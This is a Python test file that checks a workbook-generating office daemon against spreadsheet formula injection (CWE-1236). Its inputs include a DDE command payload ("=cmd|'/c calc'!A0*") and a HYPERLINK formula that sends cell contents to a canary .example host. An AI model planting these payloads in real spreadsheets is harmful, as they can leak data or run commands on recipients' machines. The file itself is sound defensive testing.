"""What strangers write never becomes a formula, a link or a command in any workbook of ours (CWE-1236)."""

from io import BytesIO

from openpyxl import load_workbook

from daemon.report.monthly import queue
from rules.months import Month
from tests.daemon.handover import car, deliveries, with_callers
from tests.daemon.office import (
    SERVICE_MANAGER,
    STAFF,
    Office,
    Posted,
    complaint,
    filled_in,
    flawed,
    mail,
)
from tests.daemon.test_workbook_two_way import settled
from tests.security.inert import calculated, texts

CANARY = "KANARIENVOGEL"
SIGNS = ["=", "+", "-", "@", "\t=", "\r\n=", "＝", "＋", "－", "＠", "=cmd|'/c calc'!A0*"]


def trap(sign: str) -> str:
    return f'{sign}HYPERLINK("http://{CANARY}.example/?"&A1,"{CANARY}")'


def inert(workbook: bytes) -> list[str]:
    """Assert that nothing strangers wrote runs or leads out; return the texts of theirs that stand in it."""
    active = [found for found in calculated(workbook) if CANARY in found or "cmd|" in found]
    assert not active
    outward = [found for found in calculated(workbook) if "External" in found or found.startswith("xl/")]
    assert not outward
    shown = [one for one in texts(workbook) if CANARY in one[1]]
    assert all(kind == "s" for _, _, _, kind in shown), shown
    return [text for _, text, _, _ in shown]


def workbooks(posted: list[Posted]) -> dict[str, bytes]:
    """Every workbook enclosed in mails, by template and name."""
    return {
        f"{one.template}/{one.to}/{name}": content
        for one in posted
        for name, content in one.enclosures.items()
        if content.startswith(b"PK")
    }


def trapped(office: Office) -> list[Posted]:
    """A case for every sign, after a harmless one; return the mails about them."""
    office.opened(customer_phone="0911-000-000")
    office.workbook.round()  # drawn with a harmless row: all others are patched in
    for number, sign in enumerate(SIGNS):
        told = complaint(
            customer_name=trap(sign), description=trap(sign), customer_phone=f"0922-000-{number:03}"
        )
        office.receive(mail(files={"form.xlsx": told}))
    office.workbook.round()
    return office.post()


def test_a_customers_formula_stays_text_in_the_workbooks_and_in_what_is_enclosed(office: Office) -> None:
    posted = trapped(office)
    for name in ("master.xlsx", "master-live.xlsx"):
        assert len(inert((office.folder / name).read_bytes())) >= 2 * len(SIGNS)
    sent = workbooks(posted)
    assert sent
    for content in sent.values():
        inert(content)


def test_a_customers_formula_stays_text_in_a_workbook_drawn_anew(office: Office) -> None:
    trapped(office)
    (office.folder / "master.xlsx").unlink()
    for _ in range(2):
        office.clock.forward(minutes=1)
        office.workbook.round()
    assert len(inert((office.folder / "master.xlsx").read_bytes())) >= 2 * len(SIGNS)


def test_a_customers_formula_stays_text_when_somebody_edits_its_cell(office: Office) -> None:
    """Text in a cell that is neither text by its format nor quoted becomes a formula at F2 and Enter."""
    trapped(office)
    book = load_workbook(BytesIO((office.folder / "master.xlsx").read_bytes()))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    shown = [cell for cell in cells if CANARY in str(cell.value)]
    assert len(shown) >= 2 * len(SIGNS)
    assert [cell.coordinate for cell in shown if cell.number_format != "@" and not cell.quotePrefix] == []


def test_a_form_sent_back_to_be_mended_carries_its_traps_as_text(office: Office) -> None:
    office.receive(mail(files={"f.xlsx": filled_in(flawed(name=trap("=")), "維修金額", trap("@"))}))
    back = workbooks(office.post())
    assert back
    assert any(inert(content) for content in back.values())


def test_fines_the_report_and_the_archive_hold_no_formula_of_a_stranger(office: Office) -> None:
    office.configure('penalties = "penalties.xlsx"')
    case = office.opened(customer_name=trap("="), description=trap("+"))
    office.clock.forward(hours=3)
    office.lapses.run_due()
    office.workbook.round()
    office.receive(office.vouched(mail(SERVICE_MANAGER, f"[{case.number}]", f"已解決 {trap('=')}")))
    queue(office.docket, Month(2026, 11), office.clock.now())
    office.workbook.round()
    told = workbooks(office.post())
    assert any("monthly-report" in name for name in told)
    for content in told.values():
        inert(content)
    inert((office.folder / "penalties.xlsx").read_bytes())
    office.clock.forward(days=70)
    office.lapses.run_due()
    office.workbook.round()
    for path in (office.folder / "archive").glob("*.xlsx"):
        assert inert(path.read_bytes())


def test_call_lists_and_their_rows_hold_no_formula_of_a_stranger(office: Office) -> None:
    with_callers(office)
    office.workbook.round()
    row = car(1, "新車")
    row[0] = trap("＝")  # a half-width one would be a formula of the list itself, which has no value to read
    office.receive(mail(STAFF, files={"list.xlsx": deliveries([row])}))
    lists = workbooks(office.post())
    assert any(inert(content) for content in lists.values())
    settled(office)
    assert inert((office.folder / "master.xlsx").read_bytes())
